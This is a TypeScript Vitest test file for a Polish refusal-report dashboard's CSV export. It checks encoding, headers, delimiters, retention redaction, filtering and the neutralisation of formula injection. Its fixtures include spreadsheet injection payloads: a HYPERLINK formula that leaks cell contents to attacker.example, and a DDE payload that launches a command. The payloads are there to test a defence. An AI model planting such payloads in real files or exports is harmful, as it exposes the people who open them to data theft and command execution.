import Papa from "papaparse";
import { beforeAll, describe, expect, it } from "vitest";
import { db } from "@/lib/db/client";
import { parseFilter, resolveFilter } from "@/lib/dashboard/filters";
import { marchFixture } from "@/lib/dashboard/fixture.test-helpers";
import { reportColumns } from "./columns";
import { reportsCsvStream } from "./csv";
import { translatorFor } from "./test-translator";
import { RETENTION_MARKER } from "@/lib/jobs/retention";

// Each payload with the cell the export must write for it, written out (not
// computed with the export's own neutraliseCell): an apostrophe in front.
const HOSTILE: [payload: string, cell: string][] = [
  ['=HYPERLINK("http://attacker.example/?leak="&A1,"Szczegóły")', `'=HYPERLINK("http://attacker.example/?leak="&A1,"Szczegóły")`],
  ["+48 600 100 200", "'+48 600 100 200"],
  ["-1+1", "'-1+1"],
  ["@SUM(1+1)*cmd|' /C calc'!A0", "'@SUM(1+1)*cmd|' /C calc'!A0"],
  ["\t=1+1", "'\t=1+1"],
  ["\r=1+1", "'\r=1+1"],
];
const NARRATIVE = "Zażółć gęślą jaźń – klient krzyczał; „cytat”, przecinek, i\nnowa linia";
// Formulas after a separator: a cell of their own in a file opened with the other separator.
const SEPARATED: [payload: string, cell: string] = ["zwrot,=2*21;@SUM(A1);-1+1, =spacja;\t=3", "zwrot,'=2*21;'@SUM(A1);'-1+1, =spacja;'\t=3"];
const HOSTILE_REPORTS = ["notJustified", "appealed", "submitted", "inReview", "withdrawn", "justified2"] as const;

let f: Awaited<ReturnType<typeof marchFixture>>;
beforeAll(async () => {
  f = await marchFixture();
  await db.refusalReport.update({
    where: { id: f.reports.justified1.id },
    data: { narrative: NARRATIVE, customerRequest: SEPARATED[0], customerDescription: "Mężczyzna ok. 40 lat" },
  });
  // As the retention job leaves it (lib/jobs/retention.ts): its marker, in Polish, and the time.
  await db.refusalReport.update({
    where: { id: f.reports.justified2.id },
    data: { customerDescription: RETENTION_MARKER, customerDescriptionRedactedAt: new Date() },
  });
  for (const [index, [payload]] of HOSTILE.entries()) {
    await db.refusalReport.update({ where: { id: f.reports[HOSTILE_REPORTS[index]].id }, data: { narrative: payload, customerRequest: payload } });
  }
});

async function readAll(stream: NodeJS.ReadableStream): Promise<Buffer> {
  const chunks: Buffer[] = [];
  for await (const chunk of stream) chunks.push(Buffer.from(chunk as Buffer));
  return Buffer.concat(chunks);
}

async function exportCsv(extra: Record<string, string> = {}, options: { delimiter?: "comma" | "semicolon"; customer?: boolean; locale?: "pl" | "en" } = {}) {
  const filter = resolveFilter(parseFilter(f.params(extra)).data!, f.now);
  const t = translatorFor(options.locale ?? "pl");
  const columns = reportColumns(t, { includeCustomerDescription: options.customer });
  const bytes = await readAll(await reportsCsvStream(f.hr, filter, columns, options.delimiter));
  const parsed = Papa.parse<string[]>(bytes.toString("utf8").replace(/^\uFEFF/, ""), { skipEmptyLines: true });
  expect(parsed.errors).toEqual([]);
  return { bytes, header: parsed.data[0], rows: parsed.data.slice(1) };
}

describe("CSV export", () => {
  it("parses back to exactly the stored rows, with a BOM, Polish headers and letters intact", async () => {
    const { bytes, header, rows } = await exportCsv();
    expect([...bytes.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
    expect(header.slice(0, 3)).toEqual(["Numer zgłoszenia", "Data zgłoszenia", "Data zdarzenia"]);
    expect(header).not.toContain("Opis klienta");
    const stored = await db.refusalReport.findMany({
      where: { locationId: { in: [f.a.id, f.b.id] }, createdAt: { gte: new Date("2026-02-28T23:00:00Z"), lt: new Date("2026-03-31T22:00:00Z") } },
      orderBy: [{ createdAt: "asc" }, { id: "asc" }],
      include: { location: true, reporter: true },
    });
    expect(rows.map((row) => row[0])).toEqual(stored.map((report) => report.number));
    const col = (name: string) => header.indexOf(name);
    // The narrative and request cells of each report: plain text as stored, a payload with its apostrophe.
    const cells = new Map<string, [narrative: string, request: string]>([
      [f.reports.justified1.id, [NARRATIVE, SEPARATED[1]]],
      ...HOSTILE_REPORTS.map((key, index): [string, [string, string]] => [f.reports[key].id, [HOSTILE[index][1], HOSTILE[index][1]]]),
    ]);
    expect(stored.map((report) => cells.has(report.id))).toEqual(Array(7).fill(true));
    for (const [index, report] of stored.entries()) {
      const row = rows[index];
      expect(row[col("Placówka")]).toBe(report.location.name);
      expect(row[col("Pracownik")]).toBe("Żaneta Głowacka");
      expect([row[col("Przebieg zdarzenia")], row[col("Żądanie klienta")]]).toEqual(cells.get(report.id));
      expect(new Date(row[col("Data zgłoszenia")]).getTime()).toBe(report.createdAt.getTime());
      expect(new Date(row[col("Data zdarzenia")]).getTime()).toBe(report.occurredAt.getTime());
    }
    const first = rows.find((row) => row[0] === f.reports.justified1.number)!;
    expect(first[col("Przebieg zdarzenia")]).toBe(NARRATIVE);
    expect(first[col("Data zgłoszenia")]).toBe("2026-03-02T12:00:00+01:00");
    expect(first[col("Rozstrzygnięcie")]).toBe("Odmowa uzasadniona");
    expect(first[col("Godziny do decyzji")]).toBe("2");
    const summer = rows.find((row) => row[0] === f.reports.inReview.number)!;
    expect(summer[col("Data zgłoszenia")]).toBe("2026-03-31T00:30:00+02:00");
    const appealed = rows.find((row) => row[0] === f.reports.appealed.number)!;
    expect(appealed[col("Obrażenia")]).toBe("tak");
    expect(appealed[col("Status")]).toBe("W odwołaniu");
    expect(appealed[col("Rozstrzygnięcie")]).toBe("Odmowa nieuzasadniona");
  });

  it("makes formula payloads inert: every hostile cell starts with an apostrophe and keeps its text", async () => {
    const { header, rows } = await exportCsv();
    const narratives = rows.map((row) => row[header.indexOf("Przebieg zdarzenia")]);
    for (const [, cell] of HOSTILE) {
      expect(narratives).toContain(cell);
    }
    for (const row of rows) {
      for (const cell of row) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
    }
  });

  it("writes semicolons with decimal commas, English headers, and the customer description only when asked", async () => {
    const { bytes, header, rows } = await exportCsv({}, { delimiter: "semicolon", customer: true, locale: "en" });
    const firstLine = bytes.toString("utf8").replace(/^\uFEFF/, "").split("\r\n")[0];
    expect(firstLine.startsWith("Report number;Filed at;Occurred at;")).toBe(true);
    expect(header).toContain("Customer description");
    const row = rows.find((r) => r[0] === f.reports.justified1.number)!;
    expect(row[header.indexOf("Customer description")]).toBe("Mężczyzna ok. 40 lat");
    // Removed after the retention period: said in the export's language.
    const redacted = rows.find((r) => r[0] === f.reports.justified2.number)!;
    expect(redacted[header.indexOf("Customer description")]).toBe("[removed after the retention period]");
    const appealed = rows.find((r) => r[0] === f.reports.appealed.number)!;
    expect(appealed[header.indexOf("Hours to file")]).toBe("3");
  });

  it("exports only the filtered rows", async () => {
    const { rows } = await exportCsv({ loc: f.b.id });
    expect(rows.map((row) => row[0]).sort()).toEqual([f.reports.inReview.number, f.reports.withdrawn.number].sort());
  });
});
